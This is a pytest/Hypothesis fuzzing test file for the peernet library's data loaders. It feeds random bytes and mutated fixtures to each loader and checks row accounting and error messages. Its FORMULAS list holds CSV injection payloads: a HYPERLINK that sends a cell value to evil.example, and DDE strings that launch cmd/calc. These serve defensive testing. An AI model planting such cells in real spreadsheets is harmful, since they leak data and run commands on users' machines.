"""Fuzzing every public loader: bad input loads with quality rows or raises DataError.

Each public loader (``pn.load``, ``read_zoom``, ``read_teams``, ``read_meet``, ``read_slack``,
``read_mbox``, ``read_signin``, ``read_events``, ``read_survey``) is fed

- random bytes (alone and behind a real-looking start: a ZIP, UTF-16 or UTF-8 BOM, an mbox
  ``From`` line, the fixture's own header),
- its real fixtures (``tests/fixtures/<format>/``, found as they land) truncated, re-encoded
  (UTF-16 with and without BOM, cp1252, mojibake), with a column dropped or added, a huge
  field, formula cells (``=HYPERLINK(...)``, ``+``, ``-``, ``@``), mixed date formats, NULs,
  shuffled, duplicated or blank lines, stray quotes, other line endings; JSON values of the
  wrong type (Slack); cell-level edits of workbooks (sign-in sheets).

Every outcome must be a PeerNetwork whose ``quality.counts`` satisfy
``rows_read == rows_kept + rows_dropped`` for every source, or a :class:`peernet.DataError`
naming the file; any other exception fails the test. Hypothesis runs derandomized (the same
examples on every run) with a small budget and no shrinking: the whole file runs in about a
minute. Set ``PEERNET_FUZZ_SCALE=10`` for a deeper local run and ``PEERNET_FUZZ_SHRINK=1`` to
shrink a failure to a minimal case.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import shutil
import tempfile
import warnings
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

import peernet as pn
from peernet.errors import DataError

FIXTURES = Path(__file__).parent / "fixtures"
SCALE = max(1, int(os.environ.get("PEERNET_FUZZ_SCALE", "1")))


SHRINK = os.environ.get("PEERNET_FUZZ_SHRINK", "") == "1"


def fuzz_settings(n: int):
    """Derandomized, bounded; shrinking (slow with loaders at ~0.3 s a call) on request."""
    phases = (Phase.explicit, Phase.generate, *((Phase.shrink,) if SHRINK else ()))
    return settings(max_examples=n * SCALE, deadline=None, derandomize=True, database=None,
                    phases=phases,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.filter_too_much])


# ------------------------------------------------------------------------ the loaders
MEMBERS_CSV = """member_id,name,email,org,sector,region,joined,supervisor_id,expertise
ana,Ana Ruiz,ana@a.org,A,health,North,2024-01-01,,housing; policy
ben,Ben Roy,ben@a.org,A,health,North,1/15/2024,ana,
cai,Cai Lin,cai@b.org,B,education,South,2024-03-01,,funding
dee,Dee Park,dee@b.org,B,education,South,2024-05-01 09:00,cai,
"""
EVENTS_CSV = """event_id,start,end,kind,title,host
e1,2025-01-15 10:00,2025-01-15 11:00,meeting,Kickoff,ana
e2,2025-04-15T10:00:00-07:00,2025-04-15 11:00,training,Data 101,cai
"""
INTERACTIONS_CSV = """timestamp,source,kind,target,event_id,weight,duration_min,topic
2025-01-15 10:00,ana,attend,,e1,,60,
2025-01-15 10:02,ben,attend,,e1,,55,
2025-04-15 10:00,cai,attend,,e2,1,60,
2025-02-01 09:00,ana,message,cai,,1.5,,housing
2/2/2025 12:00 PM,cai,reply,ana,,,,housing
2025-03-01T09:00:00Z,ben,help,dee,,2,,funding
2025-03-05 09:00,dee,call,ana,,,30,
"""
PROBLEMS_CSV = """problem_id,raised_by,raised_at,topic,helpers,solved_at,status,outcome
p1,dee,2025-02-01,housing,ana; ben,2025-03-01,solved,found a landlord
p2,cai,2025-04-01,funding,,,open,
"""


@cache
def canonical_folder() -> Path:
    """A small canonical folder (pn.load's fixture), written once per session."""
    folder = Path(tempfile.mkdtemp(prefix="peernet-fuzz-canonical-")) / "net"
    folder.mkdir()
    for name, text in [("members.csv", MEMBERS_CSV), ("events.csv", EVENTS_CSV),
                       ("interactions.csv", INTERACTIONS_CSV), ("problems.csv", PROBLEMS_CSV)]:
        (folder / name).write_text(text, encoding="utf-8")
    return folder


@cache
def canonical_binary_folder() -> Path:
    """The same network with members as .xlsx and interactions as .parquet."""
    folder = Path(tempfile.mkdtemp(prefix="peernet-fuzz-binary-")) / "net_binary"
    folder.mkdir()
    (folder / "events.csv").write_text(EVENTS_CSV, encoding="utf-8")
    pd.read_csv(io.StringIO(MEMBERS_CSV), dtype="str").to_excel(folder / "members.xlsx",
                                                                index=False)
    pd.read_csv(io.StringIO(INTERACTIONS_CSV), dtype="str").to_parquet(
        folder / "interactions.parquet", index=False)
    return folder


@cache
def slack_zip() -> tuple[Path, ...]:
    """The Slack fixture folder zipped, as Slack ships it (the ZIP path of read_slack)."""
    export = FIXTURES / "slack" / "export"
    if not export.is_dir():
        return ()
    base = Path(tempfile.mkdtemp(prefix="peernet-fuzz-slack-")) / "slack_export"
    return (Path(shutil.make_archive(str(base), "zip", export)),)


@cache
def events_folder() -> Path:
    """A folder of mixed exports for read_events: whatever fixtures have landed."""
    folder = Path(tempfile.mkdtemp(prefix="peernet-fuzz-events-")) / "exports"
    folder.mkdir()
    for sub, pattern in [("zoom", "meeting_plain.csv"), ("teams", "attendanceList.csv"),
                         ("meet", "*.csv"), ("mbox", "*.mbox")]:
        for f in sorted((FIXTURES / sub).glob(pattern))[:1]:
            shutil.copy(f, folder / f.name)
    return folder


def _files(sub: str, *patterns: str) -> tuple[Path, ...]:
    found: list[Path] = []
    for pattern in patterns:
        found += sorted((FIXTURES / sub).glob(pattern))
    return tuple(found)


@dataclass(frozen=True)
class Loader:
    """A public loader, its keyword arguments and the real inputs to mutate.

    ``sources`` are files (file loaders) or folders (folder loaders); ``targets(source)``
    are the files inside a folder source that mutations may hit.
    """

    name: str
    kwargs: dict = field(default_factory=dict)
    folder: bool = False
    sources: Callable[[], tuple[Path, ...]] = tuple
    examples: int = 10  # random mutations run, of 10 drawn
    special: dict = field(default_factory=dict)  # fixture name -> extra keyword arguments

    @property
    def func(self) -> Callable:
        return getattr(pn, self.name)

    def kwargs_for(self, source: Path) -> dict:
        return {**self.kwargs, **self.special.get(source.name, {})}


LOADERS = [
    Loader("load", folder=True, sources=lambda: (canonical_folder(), canonical_binary_folder())),
    Loader("read_zoom", {"tz": "UTC"}, sources=lambda: _files("zoom", "*.csv")),
    Loader("read_teams", {"tz": "UTC"}, sources=lambda: _files("teams", "*.csv")),
    Loader("read_meet", {"tz": "UTC"}, sources=lambda: _files("meet", "*.csv")),
    Loader("read_slack", folder=True, sources=lambda: tuple(
        p for p in sorted((FIXTURES / "slack").glob("*")) if p.is_dir() or p.suffix == ".zip"
    ) + slack_zip()),
    Loader("read_mbox", sources=lambda: _files("mbox", "*.mbox", "*.txt", "*.gz")),
    Loader("read_signin", {"tz": "UTC"}, sources=lambda: _files("signin", "*.xlsx")),
    Loader("read_events", {"tz": "UTC"}, folder=True, sources=lambda: (events_folder(),),
           examples=3),
    Loader("read_survey", sources=lambda: tuple(
        p for p in _files("survey", "*.csv") if p.name != "partner_roster.csv"),
        special={"long_ratings.csv": {"format": "long"}}),
    Loader("read_roster", sources=lambda: (FIXTURES / "trial" / "roster.xlsx",
                                           FIXTURES / "survey" / "partner_roster.csv"),
           examples=5),
    Loader("read_edges", {"time": 0, "source": 1, "target": 2, "unit": "s",
                          "origin": "2013-06-24 08:00", "resolution": 20},
           sources=lambda: _files("edges", "*.dat"), examples=5),
]
IDS = [loader.name for loader in LOADERS]
PUBLIC_LOADERS = {"load", "read_zoom", "read_teams", "read_meet", "read_slack", "read_mbox",
                  "read_signin", "read_events", "read_survey", "read_roster", "read_edges"}


def test_every_public_loader_is_fuzzed_and_guarded():
    loaders = {n for n in pn.__all__ if n == "load" or n.startswith("read_")}
    assert loaders == PUBLIC_LOADERS == set(IDS)
    for name in [*PUBLIC_LOADERS, "validate"]:
        func = getattr(pn, name)
        assert getattr(func, "__peernet_guarded__", False), name
        assert func.__name__ == name and func.__doc__ == func.__wrapped__.__doc__


# ------------------------------------------------------------------------ the checks
def check_accounting(net: pn.PeerNetwork) -> None:
    """rows_read == rows_kept + rows_dropped, every count >= 0, for every source."""
    c = net.quality.counts
    assert list(c.columns) == ["source", "rows_read", "rows_kept", "rows_repaired",
                               "rows_dropped"]
    bad = c[(c["rows_read"] != c["rows_kept"] + c["rows_dropped"])
            | (c[["rows_read", "rows_kept", "rows_repaired", "rows_dropped"]] < 0).any(axis=1)]
    assert bad.empty, f"accounting identity fails:\n{bad.to_string()}"


FALLBACK_LOG = os.environ.get("PEERNET_FUZZ_LOG")  # file listing errors only the guard caught


def run(loader: Loader, path: Path, names: set[str], kwargs: dict | None = None,
        case: str = ""):
    """Call the loader; return the network or the DataError (anything else propagates)."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            net = loader.func(path, **(loader.kwargs if kwargs is None else kwargs))
    except DataError as err:
        text = str(err)
        assert any(n and n in text for n in names), \
            f"DataError does not name the file ({sorted(names)}): {text[:300]}"
        cause = err.__cause__
        if FALLBACK_LOG and cause is not None and "cannot be read (" in text:
            with open(FALLBACK_LOG, "a", encoding="utf-8") as fh:
                fh.write(f"{loader.name}\t{case}\t{type(cause).__name__}\t"
                         f"{str(cause)[:150]!r}\n")
        return err
    assert isinstance(net, pn.PeerNetwork)
    check_accounting(net)
    for table in net.tables().values():
        assert isinstance(table.index, pd.RangeIndex)
    return net


def names_of(path: Path) -> set[str]:
    names = {path.name, str(path)}
    if path.is_dir():
        names |= {p.name for p in path.rglob("*")}
        names |= {str(p.relative_to(path)) for p in path.rglob("*")}
    return names


def stage(loader: Loader, source: Path, workdir: Path) -> tuple[Path, list[Path]]:
    """Copy ``source`` into ``workdir``; return the copy and the files a mutation may hit."""
    dest = workdir / source.name
    if source.is_dir():
        shutil.copytree(source, dest)
        files = sorted(p for p in dest.rglob("*") if p.is_file())
    else:
        shutil.copy(source, dest)
        files = [dest]
    return dest, files


# ------------------------------------------------------------------------ mutations
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "=1+1", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
DATES = ["13/02/2025 10:00", "Feb 13, 2025", "2025-02-13T10:00:00Z", "45000", "yesterday",
         "2025-02-30", "02/13/25 1:00 PM", "2025-13-01", "1e9", "0000-00-00 00:00:00",
         "Thu, 13 Feb 2025 10:00:00 +0100", "2025-02-13 25:61", "13.02.2025", ""]
DATE_LIKE = re.compile(r"\d{4}-\d{2}-\d{2}(?:[ T]\d{1,2}:\d{2}(?::\d{2})?)?|"
                       r"\d{1,2}/\d{1,2}/\d{2,4}(?: \d{1,2}:\d{2}(?::\d{2})?(?: [AP]M)?)?|"
                       r"\b\d{1,2} [A-Z][a-z]{2} \d{4}(?: \d{2}:\d{2}:\d{2})?")
TEXT_MUTATIONS = ("truncate", "encoding", "drop_column", "extra_column", "huge_field",
                  "formula", "mixed_dates", "nul", "lines", "quotes", "line_endings",
                  "json_values")


def _delimiter(line: str) -> str:
    counts = {d: line.count(d) for d in ",;\t"}
    best = max(counts, key=counts.get)
    return best if counts[best] else ","


def mutate_text(text: str, how: str, rng: random.Random) -> str:
    lines = text.splitlines(keepends=True) or [""]
    delim = _delimiter(lines[0])
    body = [i for i in range(1, len(lines)) if lines[i].strip()]

    def cells(i: int) -> list[str]:
        return lines[i].rstrip("\r\n").split(delim)

    def set_line(i: int, parts: list[str]) -> None:
        ending = lines[i][len(lines[i].rstrip("\r\n")):]
        lines[i] = delim.join(parts) + (ending or "\n")

    if how == "drop_column":
        k = rng.randrange(max(1, len(cells(0))))
        for i in range(len(lines)):
            parts = cells(i)
            if len(parts) > k:
                del parts[k]
                set_line(i, parts)
    elif how == "extra_column":
        set_line(0, [*cells(0), rng.choice(["Extra", "", "Email", "Name"])])
        for i in body:
            if rng.random() < 0.7:
                set_line(i, [*cells(i), rng.choice(["x", "", "=1+1", "a,b"])])
    elif how == "huge_field":
        i = rng.choice(body or [0])
        parts = cells(i)
        parts[rng.randrange(len(parts))] = rng.choice(
            ["A" * 200_000, '"' + "B\n" * 5_000 + '"', "9" * 5_000])
        set_line(i, parts)
    elif how == "formula":
        for _ in range(rng.randint(1, 3)):
            i = rng.choice(body or [0])
            parts = cells(i)
            parts[rng.randrange(len(parts))] = rng.choice(FORMULAS)
            set_line(i, parts)
    elif how == "mixed_dates":
        text = "".join(lines)
        return DATE_LIKE.sub(lambda m: rng.choice(DATES) if rng.random() < 0.6 else m.group(0),
                             text)
    elif how == "nul":
        text = "".join(lines)
        for _ in range(rng.randint(1, 6)):
            at = rng.randrange(len(text) + 1)
            text = text[:at] + "\x00" * rng.randint(1, 3) + text[at:]
        return text
    elif how == "lines":
        head, rest = lines[:1], lines[1:]
        action = rng.choice(["shuffle", "duplicate", "delete", "blank", "header_again",
                             "header_only"])
        if action == "shuffle":
            rng.shuffle(rest)
        elif action == "duplicate" and rest:
            rest += rng.sample(rest, k=min(len(rest), 3))
        elif action == "delete" and rest:
            del rest[rng.randrange(len(rest))]
        elif action == "blank":
            rest.insert(rng.randrange(len(rest) + 1), rng.choice(["\n", "   \n", ",,,,\n"]))
        elif action == "header_again":
            rest.insert(rng.randrange(len(rest) + 1), head[0])
        else:
            rest = []
        lines = head + rest
    elif how == "quotes":
        text = "".join(lines)
        at = rng.randrange(len(text) + 1)
        return text[:at] + rng.choice(['"', '""', '"\n', "'"]) + text[at:]
    elif how == "line_endings":
        return "".join(lines).replace("\r\n", "\n").replace(
            "\n", rng.choice(["\r", "\r\n", "\n\n", "\u2028"]))
    elif how == "json_values":
        return mutate_json(text, rng)
    return "".join(lines)


JUNK = [None, 0, -1, 1e308, True, "", " ", [], {}, "x" * 10_000, "=HYPERLINK(\"x\")",
        "1709800000.000100", "not a ts", {"id": None}, [1, "a"]]


def mutate_json(text: str, rng: random.Random) -> str:
    try:
        data = json.loads(text)
    except (json.JSONDecodeError, RecursionError):
        return text[: len(text) // 2]
    slots: list[tuple[object, object]] = []

    def walk(node):
        if isinstance(node, dict):
            for k, v in node.items():
                slots.append((node, k))
                walk(v)
        elif isinstance(node, list):
            for k, v in enumerate(node):
                slots.append((node, k))
                walk(v)

    walk(data)
    if not slots:
        return json.dumps(rng.choice(JUNK))
    for parent, key in rng.sample(slots, k=min(len(slots), rng.randint(1, 4))):
        parent[key] = rng.choice(JUNK)
    return json.dumps(data)


def encode(text: str, rng: random.Random) -> bytes:
    how = rng.choice(["utf-16", "utf-16-le", "cp1252", "mojibake", "utf-8-sig", "latin-1",
                      "utf-32"])
    if how == "mojibake":
        return text.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8")
    return text.encode(how, errors="replace")


def mutate_bytes(raw: bytes, how: str, fraction: float, rng: random.Random) -> bytes:
    if how == "truncate":
        return raw[: int(len(raw) * fraction)]
    if raw.startswith(b"\xff\xfe") or raw.startswith(b"\xfe\xff"):
        text = raw.decode("utf-16", errors="replace")
    else:
        text = raw.decode("utf-8-sig", errors="replace")
    if how == "encoding":
        return encode(text, rng)
    return mutate_text(text, how, rng).encode("utf-8", errors="surrogatepass")


def mutate_workbook(path: Path, how: str, fraction: float, rng: random.Random) -> None:
    """Cell-level edits of an .xlsx file, as a person editing it in Excel would make."""
    import datetime as dt

    import openpyxl
    from openpyxl.cell.cell import MergedCell

    if how in ("truncate", "encoding", "nul", "quotes", "line_endings"):
        raw = path.read_bytes()
        if how == "truncate":
            path.write_bytes(raw[: int(len(raw) * fraction)])
        else:  # flip some bytes inside the zip
            b = bytearray(raw)
            for _ in range(rng.randint(1, 8)):
                b[rng.randrange(len(b))] = rng.randrange(256)
            path.write_bytes(bytes(b))
        return
    wb = openpyxl.load_workbook(path)
    ws = rng.choice(wb.worksheets)
    rows, cols = max(ws.max_row, 1), max(ws.max_column, 1)

    def cell():
        for _ in range(50):
            found = ws.cell(row=rng.randint(1, rows), column=rng.randint(1, cols))
            if not isinstance(found, MergedCell):
                return found
        return ws.cell(row=rows + 1, column=1)

    if how == "drop_column":
        ws.delete_cols(rng.randint(1, cols))
    elif how == "extra_column":
        at = rng.randint(1, cols + 1)
        ws.insert_cols(at)
        ws.cell(row=1, column=at, value=rng.choice(["Extra", "Name", None]))
        ws.cell(row=2, column=at, value="x")
    elif how == "huge_field":
        cell().value = "A" * 32_000
    elif how == "formula":
        for _ in range(rng.randint(1, 3)):
            cell().value = rng.choice(FORMULAS[:5])
    elif how == "mixed_dates":
        for _ in range(rng.randint(1, 4)):
            cell().value = rng.choice([dt.datetime(2025, 2, 13, 10), dt.date(1900, 1, 1),
                                       dt.time(25 % 24, 0), 45000, -1, *DATES[:6]])
    elif how == "lines":
        ws.delete_rows(rng.randint(1, rows), rng.randint(1, 3))
    else:  # json_values: random typed cells
        for _ in range(rng.randint(1, 5)):
            cell().value = rng.choice([None, 0, -1.5, True, "", "  ", "yes", "✓", "x" * 300])
    wb.save(path)


# ------------------------------------------------------------------------ fuzz tests
PREFIXES = [b"", b"PK\x03\x04", b"\xff\xfe", b"\xef\xbb\xbf", b"From a@b.org  Tue Mar  5 "
            b"09:14:02 2024\n", b"[{", b"member_id,name\n", b"\x1f\x8b"]


@pytest.mark.parametrize("loader", LOADERS, ids=IDS)
@fuzz_settings(6)
@given(prefix=st.sampled_from(PREFIXES), payload=st.binary(max_size=3000),
       header=st.booleans())
@example(prefix=b"", payload=b"", header=False)
@example(prefix=b"", payload=b"\x00" * 64, header=True)
def test_random_bytes(loader, prefix, payload, header):
    sources = loader.sources()
    with tempfile.TemporaryDirectory() as tmp:
        workdir = Path(tmp)
        if sources:
            path, files = stage(loader, sources[0], workdir)
            target = files[len(payload) % len(files)] if files else path / "x.csv"
            head = target.read_bytes().split(b"\n", 1)[0] + b"\n" if header and \
                target.exists() else b""
        else:
            path = target = workdir / ("net" if loader.folder else "input.csv")
            if loader.folder:
                path.mkdir()
                target = path / "interactions.csv"
            head = b""
        target.write_bytes(head + prefix + payload)
        run(loader, path, names_of(path), case=f"random bytes {prefix + payload[:40]!r}")


@pytest.mark.parametrize("loader", LOADERS, ids=IDS)
def test_fixtures_load_as_they_are(loader):
    """The baseline of the mutations: every unmutated fixture loads, with exact accounting."""
    sources = loader.sources()
    if not sources:
        pytest.skip(f"no fixtures for {loader.name} yet")
    for source in sources:
        out = run(loader, source, names_of(source), loader.kwargs_for(source))
        assert isinstance(out, pn.PeerNetwork), f"{source.name}: {out}"
        assert len(out.interactions) + len(out.surveys) > 0 or (
            loader.name == "read_roster" and len(out.members) > 0)


def mutate_and_run(loader: Loader, source: Path, how: str, fraction: float, seed: int):
    rng = random.Random(seed)
    with tempfile.TemporaryDirectory() as tmp:
        path, files = stage(loader, source, Path(tmp))
        target = rng.choice(files)
        if target.suffix.lower() in (".xlsx", ".xlsm"):
            mutate_workbook(target, how, fraction, rng)
        else:
            target.write_bytes(mutate_bytes(target.read_bytes(), how, fraction, rng))
        try:
            return run(loader, path, names_of(path), loader.kwargs_for(source),
                       case=f"{source.name}/{target.name} {how} fraction={fraction} seed={seed}")
        except AssertionError as err:
            raise AssertionError(f"{loader.name} on {source.name} / {target.name} with "
                                 f"mutation {how!r} (fraction={fraction}, seed={seed}): "
                                 f"{err}") from err


def every_mutation():
    for loader in LOADERS:
        sources = loader.sources()
        # every mutation on the first fixture, a rotating third of them on the others
        cases = [(s, how) for i, s in enumerate(sources)
                 for how in (TEXT_MUTATIONS if i == 0 else TEXT_MUTATIONS[i % 3::3])]
        if loader.name == "read_events":  # a folder of several exports each call: slow
            cases = cases[::3]
        for source, how in cases:
            yield pytest.param(loader, source, how, id=f"{loader.name}-{source.name}-{how}")


@pytest.mark.parametrize(("loader", "source", "how"), list(every_mutation()))
def test_every_mutation_of_every_fixture(loader, source, how):
    """Each mutation once on a loader's first fixture, a third of them on the others."""
    mutate_and_run(loader, source, how, 0.5, sum(map(ord, f"{source.name}{how}")))


@pytest.mark.parametrize("loader", LOADERS, ids=IDS)
@fuzz_settings(10)
@given(data=st.data())
def test_random_mutations(loader, data):
    """Random mutations of random fixtures (derandomized: the same ones every run)."""
    sources = loader.sources()
    if not sources:
        pytest.skip(f"no fixtures for {loader.name} yet")
    if data.draw(st.integers(0, 9), label="skip") >= loader.examples:
        return  # loader.examples of 10 run (read_events is slow)
    source = data.draw(st.sampled_from(sources), label="source")
    how = data.draw(st.sampled_from(TEXT_MUTATIONS), label="mutation")
    fraction = data.draw(st.floats(0, 1), label="fraction")
    seed = data.draw(st.integers(0, 2**16), label="seed")
    mutate_and_run(loader, source, how, fraction, seed)


# ------------------------------------------------------------------------ pn.load property
CELLS = {
    "timestamp": ["2025-03-04 10:00", "3/4/2025 9:05 AM", "2025-03-04T10:00:00+02:00",
                  "13/02/2025 10:00", "not a date", "", "2025-02-30", "45000",
                  "=HYPERLINK(\"x\")", "2025-03-04\x00"],
    "source": ["ana", "ben", "zed", "", " ana ", "=1+1", "ANA", "ana\x00", "0012"],
    "kind": ["message", "attend", "reply", "help", "", "Message", "bogus", " call "],
    "target": ["ana", "cai", "", "nobody", "@SUM(1)"],
    "event_id": ["e1", "e9", "", "E1"],
    "weight": ["", "1", "-1", "0", "abc", "inf", "1e309", "2,5", "0.25"],
}


@fuzz_settings(25)
@given(rows=st.lists(st.fixed_dictionaries({c: st.one_of(st.sampled_from(v),
                                                          st.text(max_size=12))
                                            for c, v in CELLS.items()}), max_size=25),
       drop=st.sampled_from([None, "weight", "target", "event_id"]),
       extra=st.booleans(), delimiter=st.sampled_from([",", ";", "\t"]))
def test_load_accounts_for_every_row(rows, drop, extra, delimiter):
    """rows in interactions.csv = rows kept + rows dropped, exactly, on generated tables."""
    columns = [c for c in CELLS if c != drop] + (["Notes (free text)"] if extra else [])
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "net"
        shutil.copytree(canonical_folder(), folder)
        buf = io.StringIO()
        writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")  # quotes \r, \n
        writer.writerow(columns)
        for r in rows:
            writer.writerow([r.get(c, "=cmd") for c in columns])
        (folder / "interactions.csv").write_text(buf.getvalue(), encoding="utf-8")
        out = run(LOADERS[0], folder, names_of(folder))
        if isinstance(out, DataError):
            return
        counts = out.quality.counts.set_index("source")
        got = counts.loc["interactions.csv"]
        assert got["rows_read"] == len(rows)
        assert got["rows_kept"] == len(out.interactions)
        assert got["rows_read"] == got["rows_kept"] + got["rows_dropped"]
        issues = out.quality.issues
        dropped = issues[(issues["source"] == "interactions.csv")
                         & (issues["action"] == "dropped")]["row"].nunique()
        assert dropped == got["rows_dropped"]
        assert out.interactions["timestamp"].notna().all()
        assert out.interactions["source"].notna().all()
        assert np.isfinite(out.interactions.get("weight", pd.Series(dtype=float))
                           .dropna()).all()


# ------------------------------------------------------------------------ guard
def test_guard_turns_file_problems_into_data_error_and_lets_bugs_through(tmp_path):
    from peernet.io._guard import guard

    @guard
    def read_lines(path, *, tz="UTC"):
        """Docstring kept."""
        raise pd.errors.ParserError("Error tokenizing data. C error: Expected 3 fields in "
                                    "line 7, saw 5")

    with pytest.raises(DataError, match=r"^x\.csv, row 7: cannot be read \(ParserError: "
                                        r"Error tokenizing") as info:
        read_lines(Path("/somewhere/x.csv"))
    assert isinstance(info.value.__cause__, pd.errors.ParserError)
    assert (info.value.file, info.value.row) == ("x.csv", 7)
    with pytest.raises(TypeError, match="unexpected keyword argument 'bogus'"):
        read_lines("x.csv", bogus=1)
    assert read_lines.__name__ == "read_lines" and read_lines.__doc__ == "Docstring kept."

    @guard
    def read_thing(path):
        return {}["Email"]

    # a KeyError is a peernet bug, not a damaged file: it surfaces as itself, file noted
    with pytest.raises(KeyError) as info:
        read_thing(tmp_path / "thing.csv")
    assert type(info.value) is KeyError and info.value.__cause__ is None
    assert info.value.__notes__ == [
        "peernet: raised by read_thing while reading 'thing.csv'; this is not a problem "
        "peernet found in the file. Unless it is about an argument of the call, it is a "
        "peernet bug: please report it with a copy of the file"]


@pytest.mark.parametrize("error", [
    UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte"),
    PermissionError(13, "Permission denied"), csv.Error("field larger than field limit"),
    json.JSONDecodeError("Expecting value", "x", 0), EOFError("Compressed file ended"),
])
def test_guard_file_problems_by_type(error):
    from peernet.io._guard import guard

    @guard
    def read_it(path):
        raise error

    with pytest.raises(DataError, match=rf"^it\.csv(, row \d+)?: cannot be read "
                                        rf"\({type(error).__name__}: "):
        read_it("dir/it.csv")


def test_a_bug_planted_in_a_loader_is_not_reported_as_a_bad_file(monkeypatch):
    """An IndexError inside the Zoom reader reaches the caller as an IndexError."""
    from peernet.io import zoom

    def broken(*args, **kwargs):
        return [][1]

    monkeypatch.setattr(zoom, "_is_header", broken)
    fixture = _files("zoom", "*.csv")[0]
    with pytest.raises(IndexError) as info:
        pn.read_zoom(fixture, tz="UTC")
    assert f"while reading {fixture.name!r}" in info.value.__notes__[0]


def test_argument_errors_are_not_disguised_as_data_errors():
    with pytest.raises(ValueError, match="errors must be 'report' or 'raise'; got 'x'") as info:
        pn.load(canonical_folder(), errors="x")
    assert type(info.value) is ValueError
    zoom = _files("zoom", "*.csv")
    if zoom:
        with pytest.raises(ValueError, match="tz must be an IANA time zone.*'Mars/Base'") as info:
            pn.read_zoom(zoom[0], tz="Mars/Base")
        assert type(info.value) is ValueError
        with pytest.raises(TypeError, match="tz must be an IANA time zone name"):
            pn.read_zoom(zoom[0], tz=5)


# ------------------------------------------------------------------------ found by fuzzing
def canonical_copy(tmp_path: Path) -> Path:
    folder = tmp_path / "net"
    shutil.copytree(canonical_folder(), folder)
    return folder


@pytest.mark.parametrize(("meta", "message"), [
    ('{"tz": "Mars/Base"}', r"peernet\.json, column 'tz': 'tz' must be an IANA time zone .*"
                            r"got 'Mars/Base'"),
    ('{"tz": 5}', r"peernet\.json, column 'tz': .*got 5"),
    ('{"name": [1, 2]}', r"peernet\.json, column 'name': 'name' must be text; got \[1, 2\]"),
    ("[" * 100_000 + "]" * 100_000, r"peernet\.json: cannot read as JSON \(maximum recursion"),
])
def test_bad_peernet_json_is_a_data_error(tmp_path, meta, message):
    folder = canonical_copy(tmp_path)
    (folder / "peernet.json").write_text(meta)
    with pytest.raises(DataError, match=message):
        pn.load(folder)


def test_column_twice_after_trimming_spaces(tmp_path):
    """A repeated schema column is refused: the second 'source' was silently ignored."""
    folder = canonical_copy(tmp_path)
    for header in ("timestamp,source,kind, source", "timestamp,source,kind,source"):
        (folder / "interactions.csv").write_text(f"{header}\n2025-01-01,ana,message,ben\n")
        with pytest.raises(DataError, match=r"^interactions\.csv, row 1, column 'source': "
                                            r"column 'source' appears more than once in the "
                                            r"header \(again as column 4\)"):
            pn.load(folder)
    # a repeated column that is not peernet's is kept under a new name, with a note
    (folder / "interactions.csv").write_text("timestamp,source,kind,Notes, Notes\n"
                                             "2025-01-01,ana,message,a,b\n")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.load(folder)
    assert net.interactions["Notes.1"].tolist() == ["b"]
    frame = pd.DataFrame([["2025-01-01", "ana", "message", "ben"]],
                         columns=["timestamp", "source", "kind", "source "])
    with pytest.raises(DataError, match=r"^interactions, row 1, column 'source': column "
                                        r"'source' appears more than once in the header"):
        pn.PeerNetwork.from_tables(interactions=frame)


@pytest.mark.parametrize("parquet", [False, True])
def test_dates_beyond_nanosecond_range_get_an_error_that_says_so(tmp_path, parquet):
    # issue 17: not "expected ISO 8601", and not a half-read file
    folder = canonical_copy(tmp_path)
    df = pd.DataFrame({"timestamp": ["9999-12-31 23:59", "1000-01-01", "2025-01-05 10:00",
                                     "9999-01-01T00:00:00Z"],
                       "source": ["ana", "ben", "cai", "dee"], "kind": ["message"] * 4})
    if parquet:
        (folder / "interactions.csv").unlink()
        df.to_parquet(folder / "interactions.parquet")
    else:
        df.to_csv(folder / "interactions.csv", index=False)
    name = "interactions.parquet" if parquet else "interactions.csv"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with pytest.raises(DataError, match=rf"{name}, row 2, column 'timestamp': date "
                           r"'9999-12-31 23:59' is outside the dates pandas can hold"):
            pn.load(folder)


def test_datetime_column_beyond_range_in_parquet(tmp_path):
    folder = canonical_copy(tmp_path)
    (folder / "interactions.csv").unlink()
    ts = pd.Series(pd.to_datetime(["9999-12-31", "2025-01-05"]).as_unit("us"))
    pd.DataFrame({"timestamp": ts, "source": ["ana", "ben"], "kind": ["message"] * 2}
                 ).to_parquet(folder / "interactions.parquet")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.load(folder)
    assert net.interactions["source"].tolist() == ["ben"]
    assert net.interactions["timestamp"].dtype == "datetime64[ns, UTC]"


def test_binary_parquet_ids_are_decoded(tmp_path):
    folder = canonical_copy(tmp_path)
    (folder / "interactions.csv").unlink()
    pd.DataFrame({"timestamp": ["2025-01-05"] * 2, "source": [b"ana", b"\xffzed"],
                  "kind": ["message", "call"]}).to_parquet(folder / "interactions.parquet")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        net = pn.load(folder)
    assert net.interactions["source"].tolist() == ["ana", "\ufffdzed"]


def test_old_xls_table_and_empty_sheet_are_explained(tmp_path):
    folder = canonical_copy(tmp_path)
    (folder / "events.csv").unlink()
    (folder / "events.xls").write_bytes(b"\xd0\xcf\x11\xe0 old workbook")
    with pytest.raises(DataError, match=r"^events\.xls: old Excel \.xls files are not read"):
        pn.load(folder)
    (folder / "events.xls").unlink()
    pd.DataFrame().to_excel(folder / "events.xlsx", index=False)
    with pytest.raises(DataError, match=r"^events\.xlsx, column 'event_id': required column "
                                        r"'event_id' not found; the table has no columns"):
        pn.load(folder)


def test_guard_names_the_file_on_data_errors_raised_without_one(tmp_path):
    from peernet.io._guard import guard

    @guard
    def read_rows(path):
        raise DataError("cannot read as delimited text (field larger than field limit)", row=17)

    with pytest.raises(DataError, match=r"^rows\.csv, row 17: cannot read as delimited text "
                                        r"\(field larger") as info:
        read_rows(tmp_path / "rows.csv")
